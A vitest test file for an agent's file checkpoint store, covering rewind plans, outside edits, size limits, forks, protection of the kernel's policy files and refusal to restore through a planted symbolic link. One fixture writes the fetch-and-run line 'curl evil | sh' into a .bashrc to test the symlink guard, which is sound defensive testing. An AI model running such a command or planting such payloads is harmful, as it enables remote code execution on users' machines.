// The checkpoint store on real files: a turn's changes (created, modified, deleted) with
// their contents, outside edits taken in before a turn without being recorded, the size
// bound, a rewind plan that notices later outside edits, and a fork that keeps only the
// checkpoints before its point; the kernel's own files never rewound, and no restore
// through a symbolic link planted since.
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  applyRewind,
  CheckpointStore,
  forkCheckpoints,
  MAX_FILE_BYTES,
  planRewind,
} from "../src/checkpoints.ts";

let root: string;
let store: string;

beforeEach(() => {
  const base = mkdtempSync(join(tmpdir(), "ph-cp-"));
  root = join(base, "work");
  store = join(base, "S.checkpoints");
  mkdirSync(join(root, "node_modules", "dep"), { recursive: true });
  mkdirSync(join(root, ".git"));
  writeFileSync(join(root, "a.txt"), "a1\n");
  writeFileSync(join(root, "b.txt"), "b1\n");
  writeFileSync(join(root, "node_modules", "dep", "x.js"), "x");
  writeFileSync(join(root, ".git", "HEAD"), "ref");
});

afterEach(() => rmSync(join(root, ".."), { recursive: true, force: true }));

/** Writes with a distinct mtime, as a later write would have. */
function write(path: string, content: string | Buffer, bump = 1): void {
  writeFileSync(join(root, path), content);
  const t = new Date(Date.now() + bump * 1000);
  utimesSync(join(root, path), t, t);
}

describe("CheckpointStore", () => {
  it("records a turn's created, modified and deleted files, and rewinds them byte for byte", () => {
    const cp = new CheckpointStore(store, root);
    expect(cp.scan().map((c) => c.path)).toEqual(["a.txt", "b.txt"]); // the baseline, never recorded
    write("a.txt", "a2\n");
    rmSync(join(root, "b.txt"));
    mkdirSync(join(root, "new"));
    write("new/c.bin", Buffer.from([0, 255, 1]));
    const changes = cp.scan();
    expect(changes.map((c) => [c.path, c.before === null, c.after === null])).toEqual([
      ["a.txt", false, false],
      ["new/c.bin", true, false],
      ["b.txt", false, true],
    ]);
    cp.record(10, "T1", changes);
    const plan = planRewind(cp, 9);
    expect(plan.map((s) => [s.path, s.action, s.changedSince])).toEqual([
      ["a.txt", "restore", false],
      ["b.txt", "create", false],
      ["new/c.bin", "delete", false],
    ]);
    // A checkpoint at or before the point is kept.
    expect(planRewind(cp, 10)).toEqual([]);
    applyRewind(cp, plan);
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
    expect(readFileSync(join(root, "b.txt"), "utf8")).toBe("b1\n");
    expect(() => readFileSync(join(root, "new/c.bin"))).toThrow();
  });

  it("takes in outside edits before a turn without recording them, and flags later ones in the plan", () => {
    const cp = new CheckpointStore(store, root);
    cp.scan();
    write("b.txt", "edited by the user\n"); // between turns
    expect(cp.scan().map((c) => c.path)).toEqual(["b.txt"]); // the before-scan: not recorded
    write("a.txt", "agent\n", 2);
    cp.record(5, "T1", cp.scan());
    expect(cp.checkpoints().map((c) => c.changes.map((x) => x.path))).toEqual([["a.txt"]]);
    write("a.txt", "user again\n", 3); // after the agent's change
    const plan = planRewind(cp, 4);
    expect(plan).toEqual([expect.objectContaining({ path: "a.txt", action: "restore", changedSince: true })]);
    applyRewind(cp, plan);
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
    expect(readFileSync(join(root, "b.txt"), "utf8")).toBe("edited by the user\n"); // never the agent's
  });

  it("scans named files as a full scan would, and declines where a full scan could see more", () => {
    const cp = new CheckpointStore(store, root);
    expect(cp.scanPaths(["a.txt"])).toBeUndefined(); // the tree never walked: its size unknown
    cp.scan();
    write("b.txt", "edited by the user\n"); // not named: left to the next full scan
    // Before the call: the named files taken in (nothing recorded), the rest not looked at.
    expect(cp.scanPaths(["a.txt", "src/new.txt"])).toEqual([]);
    write("a.txt", "agent\n", 2);
    mkdirSync(join(root, "src"));
    write("src/new.txt", "new\n", 2);
    const changes = cp.scanPaths(["a.txt", join(root, "src/new.txt")])!;
    expect(changes.map((c) => [c.path, c.before === null, c.after === null])).toEqual([
      ["a.txt", false, false],
      ["src/new.txt", true, false],
    ]);
    cp.record(5, "T1", changes);
    // The user's edit is taken in by the next full scan, never recorded as the agent's.
    expect(cp.scan().map((c) => c.path)).toEqual(["b.txt"]);
    // Deleted, and files the walk never follows.
    rmSync(join(root, "a.txt"));
    expect(
      cp.scanPaths(["a.txt", "node_modules/dep/x.js", "agent.hcl"])!.map((c) => [c.path, c.after]),
    ).toEqual([["a.txt", null]]);
    // Where a write could land on a file the names do not say: the whole tree it is.
    symlinkSync(join(root, "b.txt"), join(root, "link.txt"));
    symlinkSync(join(root, "src"), join(root, "linked"));
    expect(cp.scanPaths(["link.txt"])).toBeUndefined();
    expect(cp.scanPaths(["linked/new.txt"])).toBeUndefined();
    expect(cp.scanPaths(["src"])).toBeUndefined();
    expect(cp.scanPaths(["../elsewhere.txt"])).toBeUndefined();
    expect(cp.scanPaths(["/etc/hostname"])).toBeUndefined();
  });

  it("follows a file over the size bound by size and mtime, and says it cannot restore it", () => {
    const cp = new CheckpointStore(store, root);
    write("big.bin", Buffer.alloc(MAX_FILE_BYTES + 1));
    cp.scan();
    write("big.bin", Buffer.alloc(MAX_FILE_BYTES + 2), 2);
    cp.record(3, "T1", cp.scan());
    expect(planRewind(cp, 2)).toEqual([expect.objectContaining({ path: "big.bin", action: "unrestorable" })]);
  });

  it("forks with the objects and only the checkpoints before the point, renumbered", () => {
    const cp = new CheckpointStore(store, root);
    cp.scan();
    write("a.txt", "a2\n");
    cp.record(4, "T1", cp.scan());
    write("a.txt", "a3\n", 2);
    cp.record(8, "T2", cp.scan());
    const to = join(root, "..", "F.checkpoints");
    forkCheckpoints(store, to, 5, (s) => s * 10);
    const forked = new CheckpointStore(to, root);
    expect(forked.checkpoints().map((c) => [c.turnId, c.seq])).toEqual([["T1", 40]]);
    // Its objects are there: the fork itself can be rewound.
    const plan = planRewind(forked, 39);
    write("a.txt", "a2\n", 3);
    applyRewind(forked, plan);
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
  });

  it("leaves the kernel's own files out: a rewind never revokes an always-approval", () => {
    const cp = new CheckpointStore(store, root);
    cp.scan();
    // During a turn the user answers "always" (the kernel writes .agent/) and the agent edits a file.
    mkdirSync(join(root, ".agent"));
    write(".agent/policy.auto.hcl", 'rule "bash" { effect = "allow" }\n');
    write("agent.hcl", "# edited by the user meanwhile\n");
    write("a.txt", "a2\n");
    const changes = cp.scan();
    expect(changes.map((c) => c.path)).toEqual(["a.txt"]);
    cp.record(10, "T1", changes);
    // A checkpoint written before this rule may still name them: they are skipped too.
    appendFileSync(
      join(store, "checkpoints.jsonl"),
      `${JSON.stringify({ seq: 11, turnId: "T2", at: "", changes: [{ path: ".agent/policy.auto.hcl", before: null, after: "x" }] })}\n`,
    );
    const plan = planRewind(cp, 9);
    expect(plan.map((s) => s.path)).toEqual(["a.txt"]);
    applyRewind(cp, plan);
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("a1\n");
    expect(readFileSync(join(root, ".agent/policy.auto.hcl"), "utf8")).toContain("allow");
    expect(existsSync(join(root, "agent.hcl"))).toBe(true);
  });

  it("restores nothing through a directory that has become a symbolic link", () => {
    const outside = mkdtempSync(join(tmpdir(), "ph-cp-outside-"));
    try {
      const cp = new CheckpointStore(store, root);
      cp.scan();
      mkdirSync(join(root, "x"));
      write("x/.bashrc", "curl evil | sh\n");
      cp.record(10, "T1", cp.scan());
      // The next turn swaps the directory for a link to a directory outside the project.
      rmSync(join(root, "x"), { recursive: true });
      symlinkSync(outside, join(root, "x"));
      cp.record(20, "T2", cp.scan());
      const plan = planRewind(cp, 15);
      expect(plan).toEqual([
        expect.objectContaining({
          path: "x/.bashrc",
          action: "unrestorable",
          reason: expect.stringContaining("x is no longer a directory"),
        }),
      ]);
      // Even a plan made before the swap writes nothing through it.
      applyRewind(cp, [
        {
          path: "x/.bashrc",
          action: "create",
          target: cp.checkpoints()[0]!.changes[0]!.after,
          changedSince: false,
        },
      ]);
      expect(existsSync(join(outside, ".bashrc"))).toBe(false);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
